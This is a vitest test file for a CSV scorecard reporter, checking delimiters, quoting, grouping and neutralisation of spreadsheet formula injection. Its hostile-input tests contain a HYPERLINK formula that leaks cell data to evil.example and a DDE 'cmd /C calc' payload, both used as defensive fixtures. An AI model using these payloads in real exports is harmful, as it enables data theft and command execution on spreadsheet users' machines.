import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';

import type { AuditReport } from '../../src/report.js';
import { csvReporter, neutraliseFormula, SCORECARD_COLUMNS } from '../../src/reporters/csv.js';
import { executableCellLines } from '../helpers/spreadsheet.js';
import { HOSTILE_NAME, hostileReport } from '../fixtures/reporters/hostile.js';
import { fixtureContext, fixtureReport } from '../fixtures/reporters/report.js';
import { expectGolden } from './golden.js';

const text = csvReporter(fixtureReport, fixtureContext);
const records: Record<string, string>[] = parse(text, { columns: true, record_delimiter: '\r\n' });

describe('csv reporter', () => {
  it('matches the golden file and is byte-identical across runs', () => {
    expect(csvReporter(fixtureReport, fixtureContext)).toBe(text);
    expectGolden('csv', text);
  });

  it('uses CRLF record delimiters and ends with one', () => {
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replaceAll('\r\n', '').includes('\n')).toBe(false);
    // The columns of 0.1.0 first, in their places; the analyst's columns after them.
    expect(text.split('\r\n')[0]).toBe(
      'id,name,stage,channel,owner,segments,score,grade,level,metric,value,target,attainment,errors,warnings,infos,' +
        'target_op,target_value,unit,last_data_date,rows_used,rows_rejected,' +
        'documentation_points,evidence_points,performance_points,hygiene_points,cap,waived,next_level_needs',
    );
  });

  it('parses back to one row per touchpoint with the scorecard values', () => {
    expect(records.map((r) => r.id)).toEqual([
      'welcome-email',
      'kickoff-call',
      'qbr',
      'renewal-reminder',
      'nps-survey',
      'upsell-webinar',
    ]);
    expect(records[2]).toEqual({
      id: 'qbr',
      name: 'Quarterly business review',
      stage: 'retention',
      channel: 'video-call',
      owner: 'cs',
      segments: 'enterprise',
      score: '71',
      grade: 'C',
      level: '2',
      metric: 'attendance_rate',
      value: '0.62',
      target: '>= 0.9',
      attainment: '0.689',
      errors: '0',
      warnings: '2',
      infos: '0',
      target_op: '',
      target_value: '',
      unit: '',
      last_data_date: '2026-03-28',
      rows_used: '12',
      rows_rejected: '2',
      // The pillars' points add up to the score (before a cap).
      documentation_points: '25',
      evidence_points: '25',
      performance_points: '13.5',
      hygiene_points: '7.5',
      cap: '',
      waived: '1',
      next_level_needs: 'to reach L3: raise attendance_rate from 0.62 to 0.9',
    });
    const reminder = records.find((r) => r.id === 'renewal-reminder');
    expect([reminder?.cap, reminder?.evidence_points]).toEqual(['no owner', '25']);
  });

  it('neutralises names starting with = or @ but keeps negative numbers numeric', () => {
    const reminder = records.find((r) => r.id === 'renewal-reminder');
    const nps = records.find((r) => r.id === 'nps-survey');
    expect(reminder?.name).toBe("'=Renewal reminder (T-5)");
    expect(reminder?.owner).toBe('');
    expect(nps?.name).toBe("'@NPS survey");
    expect(nps?.value).toBe('-12');
    expect(nps?.segments).toBe('enterprise smb');
  });

  it('quotes cells holding delimiters and quotes', () => {
    expect(records.find((r) => r.id === 'upsell-webinar')?.name).toBe(
      'Upsell webinar | <b>Pro</b> & "Team"',
    );
    expect(text).toContain('"Upsell webinar | <b>Pro</b> & ""Team"""');
  });

  it.each([
    ['=1+2', "'=1+2"],
    ['+31 6 1234', "'+31 6 1234"],
    ['-dash', "'-dash"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['ok\n=1+2', "ok\n'=1+2"],
    ['ok\r\n@A1\r-1\n\n+2', "ok\r\n'@A1\r'-1\n\n'+2"],
    ['ok\n\r=1', "ok\n'\r'=1"],
    ['ok\n a=1', 'ok\n a=1'],
    ['\uFF1D1+2', "'\uFF1D1+2"],
    ['plain', 'plain'],
    ['', ''],
    [-3, -3],
    [undefined, undefined],
  ])('neutraliseFormula(%j) is %j', (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });

  describe('a multi-line name whose later lines are formulas', () => {
    const hostile = csvReporter(hostileReport, fixtureContext);

    it('stays one quoted cell, read back by a CSV parser as a spreadsheet would', () => {
      const rows: string[][] = parse(hostile, { record_delimiter: '\r\n' });
      expect(rows).toHaveLength(1 + (hostileReport.scores?.touchpoints.length ?? 0));
      expect(rows.every((row) => row.length === SCORECARD_COLUMNS.length)).toBe(true);
      expect(rows[1]?.[1]).toBe(
        "Renewal\n'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")\r\n'+cmd|' /C calc'!A0\n'@SUM(1)\n'-2+3\n'\tx",
      );
      expect(hostile).toContain(`"Renewal\n'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")`);
    });

    it('has no line of any cell that a spreadsheet would run', () => {
      expect(executableCellLines(hostile)).toEqual([]);
      // the check itself finds what the reporter would have let through before
      expect(executableCellLines('id,name\r\nx,"ok\n=1+2"\r\ny,-12\r\n')).toEqual(['=1+2']);
    });

    it('quotes a cell holding a bare LF or CR although records end with CRLF', () => {
      const report: AuditReport = {
        ...fixtureReport,
        scores: fixtureReport.scores && {
          ...fixtureReport.scores,
          touchpoints: fixtureReport.scores.touchpoints
            .slice(0, 2)
            .map((t, i) => ({ ...t, name: i === 0 ? 'a\nb' : 'c\rd' })),
        },
      };
      const lines = csvReporter(report, fixtureContext).split('\r\n');
      expect(lines[1]).toMatch(/^welcome-email,"a\nb",onboarding,/);
      expect(lines[2]).toMatch(/^kickoff-call,"c\rd",onboarding,/);
    });

    it('neutralises the name as a whole too (HOSTILE_NAME starts with text)', () => {
      expect(HOSTILE_NAME.startsWith('Renewal')).toBe(true);
      expect(neutraliseFormula(`=${HOSTILE_NAME}`)).toMatch(/^'=Renewal\n'=/);
    });
  });

  it('writes one row per group with --by', () => {
    const byOwner = csvReporter(fixtureReport, { ...fixtureContext, by: 'owner' });
    // Coverage as fractions (the JSON's percent / 100); empty for a group without touchpoints.
    expect(byOwner).toBe(
      [
        'id,score,grade,touchpoints,documentation_coverage,data_coverage',
        '(unowned),68,D,2,1,1',
        'cs,81.5,B,2,1,1',
        'marketing-ops,76,C,2,1,1',
        '',
      ].join('\r\n'),
    );
    const byStage = csvReporter(fixtureReport, { ...fixtureContext, by: 'stage' }).split('\r\n');
    expect([byStage[1], byStage[4]]).toEqual(['awareness,0,F,0,,', 'onboarding,90,A,2,1,1']);
  });

  it('writes the findings that still count for validate: rule, severity, touchpoint, file, line, column, message', () => {
    const report: AuditReport = { ...fixtureReport, command: 'validate', scores: undefined };
    const rows: unknown = parse(csvReporter(report, fixtureContext));
    const active = fixtureReport.findings.filter((f) => !f.waived && !f.baselined);
    expect(rows).toEqual([
      ['rule', 'severity', 'touchpoint', 'file', 'line', 'column', 'message'],
      ...active.map((f) => [
        f.rule,
        f.severity,
        f.touchpoint ?? '',
        // Absolute paths relative to the working directory, like every path in a report.
        path.isAbsolute(f.location.file)
          ? path.relative(fixtureContext.cwd, f.location.file)
          : f.location.file,
        String(f.location.line),
        String(f.location.column),
        f.message,
      ]),
    ]);
    expect(active.length).toBeLessThan(fixtureReport.findings.length);
  });
});
